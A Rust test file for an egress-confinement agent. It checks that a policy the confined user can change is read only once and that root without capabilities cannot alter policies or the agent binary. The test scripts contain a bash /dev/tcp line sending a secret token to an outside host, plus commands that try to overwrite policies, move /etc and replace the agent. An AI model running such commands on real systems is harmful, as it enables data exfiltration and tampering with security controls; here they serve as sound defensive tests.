//! A policy that its own connector can change is read once, and then never again.

use std::{
    fs,
    os::unix::fs::{PermissionsExt as _, chown, symlink},
    path::{Path, PathBuf},
    thread,
    time::Duration,
};

use anyhow::{Result, ensure};
use egress_tests::{
    agent::{self, policy},
    token,
    world::{USER, World},
    zone,
};
use nix::sys::signal::Signal;

/// Longer than `--watch` takes.
const MOMENT: Duration = Duration::from_secs(3);

fn declared() -> String {
    policy("owner", &[&format!("{}:9999", zone::ALLOWED)])
}

fn opened() -> String {
    policy("owner", &[&format!("{}:9999", zone::STRANGER)])
}

/// A way in which a policy lies there, with the user's own place in it.
type Arrange = fn(&Path) -> Result<PathBuf>;

fn plain(folder: &Path) -> Result<PathBuf> {
    let file = folder.join("policy.yaml");
    fs::write(&file, declared())?;
    Ok(file)
}

fn owned_file(folder: &Path) -> Result<PathBuf> {
    let file = plain(folder)?;
    chown(&file, Some(USER), None)?;
    Ok(file)
}

fn owned_folder(folder: &Path) -> Result<PathBuf> {
    let file = plain(folder)?;
    chown(folder, Some(USER), None)?;
    Ok(file)
}

fn open_to_the_group(folder: &Path) -> Result<PathBuf> {
    let file = plain(folder)?;
    chown(folder, None, Some(USER))?;
    fs::set_permissions(folder, fs::Permissions::from_mode(0o775))?;
    Ok(file)
}

fn open_above(folder: &Path) -> Result<PathBuf> {
    let below = folder.join("below");
    fs::create_dir(&below)?;
    fs::set_permissions(folder, fs::Permissions::from_mode(0o777))?;
    plain(&below)
}

fn a_link_of_its_own(folder: &Path) -> Result<PathBuf> {
    let file = plain(folder)?;
    let links = folder.join("links");
    fs::create_dir(&links)?;
    chown(&links, Some(USER), None)?;
    let link = links.join("policy.yaml");
    symlink(file, &link)?;
    Ok(link)
}

fn roots(folder: &Path) -> Result<PathBuf> {
    plain(folder)
}

#[test]
fn a_policy_that_its_connector_can_change_is_read_once() -> Result<()> {
    let world = World::new()?;
    let cases: [(&str, Arrange, bool); 7] = [
        ("its own file", owned_file, true),
        ("its own folder", owned_folder, true),
        ("a folder of its group", open_to_the_group, true),
        ("a folder above that is open", open_above, true),
        ("a link of its own", a_link_of_its_own, true),
        ("root's alone", roots, false),
        ("root's alone, by a link of root's", roots, false),
    ];
    for (what, arrange, is_changeable) in cases {
        let folder = world.path("place");
        fs::create_dir(&folder)?;
        fs::set_permissions(&folder, fs::Permissions::from_mode(0o755))?;
        let mut file = arrange(&folder)?;
        if what.ends_with("root's") {
            let link = world.path("link.yaml");
            symlink(&file, &link)?;
            file = link;
        }
        let secret = token::new();
        let script = format!(
            "echo up; read line; (exec 3<>/dev/tcp/{}/9999 && echo {secret} >&3) && echo sent || echo refused",
            zone::STRANGER
        );
        let mut confined = world
            .agent("")
            .option("--watch")
            .start_with_file(&file, &["/bin/bash", "-c", &script])?;
        confined.printed("up", agent::LIMIT)?;
        // As the connector would: through whatever it may change. Root does it here for both, so
        // that the control differs in nothing else.
        fs::write(&file, opened())?;
        thread::sleep(MOMENT);
        for _ in 0..2 {
            confined.agent.signal(Signal::SIGHUP)?;
            thread::sleep(Duration::from_millis(500));
        }
        confined.agent.close_stdin();
        let report = confined.wait()?;
        let told = report.events.iter().filter(|event| {
            event.kind == "warning" && event.line.contains("the connector can change its policy")
        });
        let told = told.count();
        if is_changeable {
            report.ensure_printed("refused")?;
            world.fence()?;
            ensure!(world.sightings(&secret)?.is_empty(), "{what}: {report}");
            // At the start, and each time that it is asked.
            ensure!(told == 3, "{what}: told {told} times: {report}");
        } else {
            report.ensure_printed("sent")?;
            ensure!(told == 0, "{what}: {report}");
        }
    }
    Ok(())
}

/// The file becomes the connector's own while it runs.
#[test]
fn a_policy_that_becomes_changeable_is_not_taken() -> Result<()> {
    let world = World::new()?;
    let folder = world.path("place");
    fs::create_dir(&folder)?;
    fs::set_permissions(&folder, fs::Permissions::from_mode(0o755))?;
    let file = plain(&folder)?;
    let script = format!(
        "echo up; read line; (exec 3<>/dev/tcp/{}/9999) && echo open || echo refused",
        zone::STRANGER
    );
    let mut confined = world
        .agent("")
        .start_with_file(&file, &["/bin/bash", "-c", &script])?;
    confined.printed("up", agent::LIMIT)?;
    fs::write(&file, opened())?;
    chown(&file, Some(USER), None)?;
    confined.agent.signal(Signal::SIGHUP)?;
    thread::sleep(Duration::from_secs(1));
    confined.agent.close_stdin();
    let report = confined.wait()?;
    report.ensure_printed("refused")?;
    ensure!(
        report
            .outcome
            .stderr
            .contains("the policy was not replaced"),
        "{report}"
    );
    Ok(())
}

/// Root without capabilities owns root's files: where its policy is, and the agent, it cannot
/// write.
#[test]
fn root_changes_neither_policies_nor_the_agent() -> Result<()> {
    let world = World::new()?;
    let places = "mkdir -p /run/etc-upper /run/etc-work && mount -t tmpfs none /run/etc-upper && \
        mkdir /run/etc-upper/up /run/etc-upper/work && \
        mount -t overlay none -o lowerdir=/etc,upperdir=/run/etc-upper/up,workdir=/run/etc-upper/work /etc && \
        mkdir -p /etc/egress-agent/policies && echo precious > /etc/egress-agent/policies/x.yaml";
    let script = "a=/etc/egress-agent/policies; \
        for line in \"echo evil > $a/x.yaml\" \"echo evil > $a/new.yaml\" \"rm $a/x.yaml\" \
            \"mv $a $a.old\" 'mv /etc/egress-agent /etc/moved' 'mv /etc /etc.moved' \
            'chmod 777 /etc/egress-agent' \"mv $AGENT $AGENT.old\" \"cp /bin/true $AGENT\" \
            \"mv ${AGENT%/*} ${AGENT%/*}.old\"; do \
          (eval \"$line\") 2>/dev/null && echo \"done: $line\"; done; \
        cat $a/x.yaml; echo control > /etc/of-root && cat /etc/of-root; echo over";
    // A copy of the agent: what this test tries must not succeed, but could.
    let copy = world.path("copy");
    let line = format!(
        "mkdir -p {copy}/bin && cp \"$1\" {copy}/bin/agent && shift && export AGENT={copy}/bin/agent && \
         exec unshare --mount --propagation private /bin/bash -c '\
         {places} || exit 99; exec \"$@\"' own {copy}/bin/agent \"$@\"",
        copy = copy.display()
    );
    let report = world
        .agent(policy("owner", &[]))
        .user(Some("root"))
        .behind(&line)
        .run(&["/bin/bash", "-c", script])?;
    report.ensure_printed("over")?;
    ensure!(!report.text().contains("done:"), "{report}");
    ensure!(report.text().contains("precious\ncontrol"), "{report}");
    // And its policy, which lies elsewhere, is read once.
    ensure!(
        report
            .outcome
            .stderr
            .contains("the connector can change its policy"),
        "{report}"
    );
    Ok(())
}
